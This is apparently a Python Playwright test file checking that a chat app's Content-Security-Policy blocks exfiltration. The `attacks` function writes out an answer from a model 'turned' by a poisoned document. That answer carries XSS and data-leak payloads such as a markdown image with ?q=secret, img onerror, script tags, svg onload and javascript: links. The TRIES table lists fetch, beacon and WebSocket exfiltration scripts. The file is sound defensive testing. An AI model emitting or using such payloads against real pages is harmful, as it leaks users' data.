"""The Content-Security-Policy, proven: a browser refuses what an attacker's markup or script would do."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Server, Witness, running
from tests.browser.test_main_job import answered, ask
from tests.loopback.openai_server import Scripted, serve_openai

pytestmark = pytest.mark.browser
Visit = Callable[..., Witness]


@pytest.fixture(scope="module")
def stranger() -> Iterator[tuple[str, list[str]]]:
    """Another origin on this machine that answers everything, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            """Read from `asked`."""

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", asked
    httpd.shutdown()
    httpd.server_close()
    thread.join()


def attacks(address: str) -> str:
    """An answer of a model that a poisoned document has turned."""
    return f"""Here it is. ![pixel]({address}/markdown-image?q=secret) [click]({address}/markdown-link)
<img src="{address}/html-image" onerror="window.pwned = 'img'"> <script src="{address}/script"></script>
<script>window.pwned = 'inline'; fetch('{address}/inline')</script> <iframe src="{address}/frame"></iframe>
<form action="{address}/form"><button>Go</button></form> <link rel="prefetch" href="{address}/prefetch">
<svg onload="window.pwned = 'svg'"><image href="{address}/svg"/></svg> <style>@import '{address}/style';</style>
<a href="javascript:window.pwned = 'href'">here</a> [x](javascript:alert(1))
<meta http-equiv="refresh" content="0;{address}/meta">
:material/bolt: $\\href{{{address}/latex}}{{x}}$ ![]({address}/empty) [ref]: {address}/reference

The end of it."""


@pytest.fixture(scope="module")
def turned(
    stranger: tuple[str, list[str]], tmp_path_factory: pytest.TempPathFactory, models: Path
) -> Iterator[Server]:
    home = tmp_path_factory.mktemp("turned") / "home"
    reply = Scripted(text=attacks(stranger[0]))
    with (
        serve_openai(answer=lambda _: reply) as model,
        running(home, models, OPENAI_BASE_URL=model.url) as started,
    ):
        yield started


def test_an_answer_full_of_attacks_is_only_text(
    turned: Server, stranger: tuple[str, list[str]], visit: Visit
) -> None:
    """The witness of `visit` fails the test too if the page asks anyone else for anything."""
    page = visit(turned.address).page
    page.get_by_role("button", name="Base", exact=True).click()
    ask(page, "What do you say?")
    answered(page)
    answer = page.locator(".prose.answer")
    expect(answer).to_contain_text("The end of it.")
    page.get_by_role("button", name="Why this answer").click()
    page.get_by_role("dialog").get_by_text("Receipt").first.wait_for()
    assert page.evaluate("window.pwned") is None
    inside = "img, script, iframe, form, link, svg, style, meta, a"
    assert answer.locator(inside).count() == 0
    assert stranger[1] == []


# What a script would do that got into the page after all -> the directive that must refuse it.
TRIES = {
    "img-src": "document.body.append(Object.assign(new Image(), { src: at + '/image' }))",
    "connect-src": "fetch(at + '/fetch').catch(() => 0)",
    "connect-src (beacon)": "navigator.sendBeacon(at + '/beacon', 'secret')",
    "connect-src (socket)": "new WebSocket(at.replace('http', 'ws') + '/socket')",
    "script-src-elem": "add('script', { src: at + '/script' })",
    "script-src-elem (inline)": "add('script', { textContent: 'window.pwned = 1' })",
    "script-src-attr": "add('div', { innerHTML: '<b onclick=\"window.pwned = 2\">x</b>' }).firstChild.click()",
    "script-src (code from text)": "setTimeout('window.pwned = 3')",
    "frame-src": "add('iframe', { src: at + '/frame' })",
    "form-action": "add('form', { action: at + '/form', method: 'post' }).submit()",
    "style-src-elem": "add('link', { rel: 'stylesheet', href: at + '/style' })",
    "font-src": "document.fonts.add(new FontFace('x', `url(${at}/font)`)); document.fonts.load('1em x').catch(() => 0)",
    "media-src": "add('video', { src: at + '/video' })",
    "object-src": "add('object', { data: at + '/object' })",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), { href: at }))",
}
WATCH = """() => {
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
}"""


def attempt(page: Page, script: str, address: str) -> list[str]:
    """The directives that refused something, within a moment."""
    page.evaluate(WATCH)
    page.evaluate(
        """(at) => {
          const add = (tag, given) => {
            const made = Object.assign(document.createElement(tag), given);
            document.body.append(made);
            return made;
          };
          SCRIPT;
        }""".replace("SCRIPT", script),
        address,
    )
    page.wait_for_timeout(250)
    return list(page.evaluate("window.refused"))


def test_the_browser_refuses_each_way_out(
    server: Server, stranger: tuple[str, list[str]], browser: Any
) -> None:
    """Not through `visit`: here the console is full of refusals, as it should be."""
    page = browser.new_context().new_page()
    page.goto(server.address)
    page.get_by_test_id("stChatInput").wait_for()
    address, asked = stranger
    held = {name: attempt(page, script, address) for name, script in TRIES.items()}
    missing = [name for name, refused in held.items() if name.split(" ")[0] not in refused]
    assert page.evaluate("window.pwned") is None
    page.context.close()
    assert asked == []
    assert missing == [], held


def test_without_the_policy_the_same_tries_get_out(stranger: tuple[str, list[str]], browser: Any) -> None:
    """So that the test above can fail: a page that no policy guards lets them through."""
    page = browser.new_context().new_page()
    page.goto(stranger[0])
    for script in (TRIES["img-src"], TRIES["connect-src"], TRIES["frame-src"]):
        assert attempt(page, script, stranger[0]) == []
    page.context.close()
    assert {"/image", "/fetch", "/frame"} <= set(stranger[1])
    stranger[1].clear()
